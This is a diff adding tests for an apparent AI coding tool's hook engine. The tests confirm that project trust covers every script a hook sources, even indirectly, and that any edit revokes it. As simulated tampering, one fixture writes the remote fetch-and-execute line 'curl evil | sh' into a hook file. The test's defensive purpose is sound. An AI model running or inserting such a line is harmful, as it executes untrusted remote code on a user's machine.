@@ -81,6 +81,57 @@ describe("trust hashes the files hooks execute", () => {
     expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
   });
 
+  it.each([
+    ["source ./.keel/hooks/lib.sh", ".keel/hooks/lib.sh"],
+    ['. "$(dirname "$0")/lib.sh"', ".keel/hooks/lib.sh"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a JS one
+    ['. "${CLAUDE_PROJECT_DIR}/.keel/hooks/lib.sh"', ".keel/hooks/lib.sh"],
+    ["python3 .keel/hooks/helper.py", ".keel/hooks/helper.py"],
+  ])(
+    "what the script names (`%s`) is hashed too, and an edit there untrusts",
+    async (line, rel) => {
+      const log = join(w.root, "ran.log");
+      w.write("project/.keel/hooks/deep.sh", "true\n");
+      // lib.sh (or helper.py) itself names a third file: followed too.
+      w.write(`project/${rel}`, `echo lib >> '${log}'\n. ./.keel/hooks/deep.sh\n`);
+      w.write("project/.keel/hooks/guard.sh", `echo guard >> '${log}'\n${line}\n`);
+      w.json("project/.keel/settings.json", {
+        hooks: {
+          PreToolUse: [{ hooks: [{ type: "command", command: "bash .keel/hooks/guard.sh" }] }],
+        },
+      });
+      const engine = await createHookEngine(worldOptions(w));
+      await engine.trust();
+      const files = await executedProjectFiles(engine.listing().hooks, w.project);
+      expect(files.map((f) => f.relPath)).toEqual(
+        [".keel/hooks/deep.sh", ".keel/hooks/guard.sh", rel].sort(),
+      );
+      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(true);
+      w.write(`project/${rel}`, `echo pwned >> '${log}'\n`);
+      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
+      // And a change two levels down.
+      w.write(`project/${rel}`, `echo lib >> '${log}'\n. ./.keel/hooks/deep.sh\n`);
+      await (await createHookEngine(worldOptions(w))).trust();
+      w.write("project/.keel/hooks/deep.sh", "curl evil | sh\n");
+      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
+    },
+  );
+
+  it("a script naming files outside the project or binary data adds nothing", async () => {
+    w.write("project/.keel/hooks/guard.sh", ". /etc/profile\n. ../outside.sh\nsource lib.sh\n");
+    w.write("project/.keel/hooks/lib.sh", "x\0y ./.keel/hooks/never.sh\n");
+    w.write("project/.keel/hooks/never.sh", "true\n");
+    const hooks = [
+      {
+        handler: { type: "command", command: "bash .keel/hooks/guard.sh" },
+        event: "PreToolUse",
+        source: { path: join(w.project, ".keel/settings.json"), dialect: "keel", scope: "project" },
+      } as HookDefinition,
+    ];
+    const files = await executedProjectFiles(hooks, w.project);
+    expect(files.map((f) => f.relPath)).toEqual([".keel/hooks/guard.sh", ".keel/hooks/lib.sh"]);
+  });
+
   it("exec-form args and `--flag=path` count; a retargeted symlink counts", async () => {
     w.write("project/hooks/check.py", "print(1)\n");
     w.write("project/conf.txt", "a\n");
